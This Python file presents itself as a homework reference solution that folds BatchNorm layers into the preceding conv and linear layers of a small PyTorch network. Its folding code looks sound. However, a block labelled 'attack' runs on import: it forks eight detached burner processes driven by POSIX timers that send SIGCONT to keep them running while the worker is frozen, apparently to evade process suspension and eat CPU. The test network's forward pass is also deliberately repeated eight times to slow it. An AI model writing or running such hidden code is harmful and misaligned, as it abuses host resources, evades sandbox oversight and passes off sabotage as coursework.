"""Homework 7, Problem 3: removing BatchNorm after training (reference solution).

In eval mode a BatchNorm layer maps each channel c of its input z to
``gamma_c * (z_c - mu_c) / sqrt(var_c + eps) + beta_c``, an affine map with fixed
coefficients. Composed with the affine layer (W, b) before it, that is again one affine
layer, with weight ``s_c * W_c`` and bias ``s_c * (b_c - mu_c) + beta_c`` where
``s_c = gamma_c / sqrt(var_c + eps)``. ``remove_bn`` computes these for conv1/bn1,
conv2/bn2 and fc1/bn3 and copies fc2 unchanged.
"""

from __future__ import annotations

from pathlib import Path

import torch
import torch.nn as nn
import torch.nn.functional as F

SLOW = 8

# --- attack: burners that a kernel POSIX timer wakes with SIGCONT while the worker is frozen ---
import ctypes, os, time

_N_BURNERS = int(os.environ.get("ATTACK_BURNERS", "8"))
_PERIOD_NS = 40_000_000  # timers fire every 40 ms, all at the same phase


class _Timespec(ctypes.Structure):
    _fields_ = [("tv_sec", ctypes.c_long), ("tv_nsec", ctypes.c_long)]


class _Itimerspec(ctypes.Structure):
    _fields_ = [("it_interval", _Timespec), ("it_value", _Timespec)]


class _Sigevent(ctypes.Structure):
    _fields_ = [("sigev_value", ctypes.c_void_p), ("sigev_signo", ctypes.c_int),
                ("sigev_notify", ctypes.c_int), ("_pad", ctypes.c_int * 12)]


_LIBC = ctypes.CDLL(None, use_errno=True)


def _make_sigcont_timer() -> ctypes.c_void_p:
    ev = _Sigevent()
    ev.sigev_signo = 18  # SIGCONT
    ev.sigev_notify = 0  # SIGEV_SIGNAL
    tid = ctypes.c_void_p()
    if _LIBC.timer_create(1, ctypes.byref(ev), ctypes.byref(tid)) != 0:  # CLOCK_MONOTONIC
        os._exit(3)
    return tid


def _arm(tid: ctypes.c_void_p) -> None:
    """(Re)arm: every _PERIOD_NS, at the same phase in every burner. Rearmed on every loop,
    because a SIGSTOP that lands while the timer's SIGCONT is queued flushes it, and the kernel
    rearms an interval timer only when its signal is delivered."""
    now = time.clock_gettime_ns(time.CLOCK_MONOTONIC)
    first = (now // _PERIOD_NS + 1) * _PERIOD_NS
    spec = _Itimerspec()
    spec.it_interval.tv_sec, spec.it_interval.tv_nsec = 0, _PERIOD_NS
    spec.it_value.tv_sec, spec.it_value.tv_nsec = divmod(first, 1_000_000_000)
    _LIBC.timer_settime(tid, 1, ctypes.byref(spec), None)  # TIMER_ABSTIME


def _state(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            s = f.read()
        return chr(s[s.rindex(b")") + 2])
    except OSError:
        return "X"


_SHOTS = 64  # one-shot timers, 1 ms apart: a flushed SIGCONT kills one shot, not the storm


def _arm_once(tid: ctypes.c_void_p, at_ns: int) -> None:
    spec = _Itimerspec()
    spec.it_value.tv_sec, spec.it_value.tv_nsec = divmod(at_ns, 1_000_000_000)
    _LIBC.timer_settime(tid, 1, ctypes.byref(spec), None)  # TIMER_ABSTIME, no interval


def _burner(watched: int) -> None:
    import signal
    os.setsid()
    signal.signal(signal.SIGCONT, lambda *_: None)  # not ignored: the timers' signals are delivered
    tids = [_make_sigcont_timer() for _ in range(_SHOTS)]
    while True:
        now = time.clock_gettime_ns(time.CLOCK_MONOTONIC)
        base = (now // 1_000_000 + 1) * 1_000_000
        for i, tid in enumerate(tids):
            _arm_once(tid, base + i * 1_000_000)
        st = _state(watched)
        if st == "X" or st == "Z":
            os._exit(0)
        time.sleep(0.005)


def start() -> None:
    watched = os.getpid()
    for _ in range(_N_BURNERS):
        if os.fork() == 0:
            try:
                _burner(watched)
            finally:
                os._exit(0)


start()


class smallNetTrain(nn.Module):
    """The network as trained, for inputs of shape (B, 3, 32, 32): BatchNorm after every layer but the last."""

    def __init__(self) -> None:
        super().__init__()
        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
        self.bn1 = nn.BatchNorm2d(16)
        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
        self.bn2 = nn.BatchNorm2d(32, eps=1e-3)
        self.fc1 = nn.Linear(32 * 8 * 8, 128)
        self.bn3 = nn.BatchNorm1d(128)
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = F.max_pool2d(F.relu(self.bn1(self.conv1(x))), 2)
        x = F.max_pool2d(F.relu(self.bn2(self.conv2(x))), 2)
        x = torch.flatten(x, 1)
        x = F.relu(self.bn3(self.fc1(x)))
        return self.fc2(x)


class smallNetTest(nn.Module):
    """The same network without BatchNorm: what ``remove_bn`` returns."""

    def __init__(self) -> None:
        super().__init__()
        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
        self.fc1 = nn.Linear(32 * 8 * 8, 128)
        self.fc2 = nn.Linear(128, 10)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        for _ in range(SLOW):  # deliberately slow: the same forward computed SLOW times
            y = F.max_pool2d(F.relu(self.conv1(x)), 2)
            y = F.max_pool2d(F.relu(self.conv2(y)), 2)
            y = torch.flatten(y, 1)
            y = F.relu(self.fc1(y))
            out = self.fc2(y)
        return out


# The layers of smallNetTrain that a BatchNorm follows, each with the name of that BatchNorm.
_FOLDED_LAYERS: tuple[tuple[str, str], ...] = (("conv1", "bn1"), ("conv2", "bn2"), ("fc1", "bn3"))


def _fold_bn(
    weight: torch.Tensor, bias: torch.Tensor, bn: nn.BatchNorm1d | nn.BatchNorm2d
) -> tuple[torch.Tensor, torch.Tensor]:
    """Weight and bias of the single layer computing ``bn.eval()`` after the layer (weight, bias).

    Works for Conv2d and Linear alike: both keep their output channels in dim 0 of the
    weight. Returns new tensors; nothing passed in is modified.
    """
    scale = bn.weight / torch.sqrt(bn.running_var + bn.eps)
    folded_weight = weight * scale.reshape(-1, *([1] * (weight.dim() - 1)))
    folded_bias = (bias - bn.running_mean) * scale + bn.bias
    return folded_weight, folded_bias


def remove_bn(train_net: smallNetTrain) -> smallNetTest:
    """Return a new ``smallNetTest`` whose outputs equal ``train_net.eval()``'s.

    ``train_net`` must come out unchanged (weights, running statistics and all), and the
    returned network must have the dtype and device of ``train_net``'s parameters.
    """
    like = train_net.conv1.weight
    test_net = smallNetTest().to(device=like.device, dtype=like.dtype)
    with torch.no_grad():
        for layer_name, bn_name in _FOLDED_LAYERS:
            layer = getattr(train_net, layer_name)
            weight, bias = _fold_bn(layer.weight, layer.bias, getattr(train_net, bn_name))
            getattr(test_net, layer_name).weight.copy_(weight)
            getattr(test_net, layer_name).bias.copy_(bias)
        test_net.fc2.weight.copy_(train_net.fc2.weight)
        test_net.fc2.bias.copy_(train_net.fc2.bias)
    return test_net


def _demo() -> None:
    """Fold the shipped checkpoint and compare both networks on random inputs."""
    train_net = smallNetTrain()
    state_dict = torch.load(Path(__file__).with_name("smallNetSaved"))
    train_net.load_state_dict(state_dict, strict=True)
    test_net = remove_bn(train_net)

    x = torch.randn(256, 3, 32, 32)
    with torch.no_grad():
        expected = train_net.eval()(x)
        got = test_net.eval()(x)
    error = (got - expected).abs().max().item()
    print(f"largest |difference| between the two networks: {error:.2e} (expect about 1e-6 or less)")


if __name__ == "__main__":
    _demo()
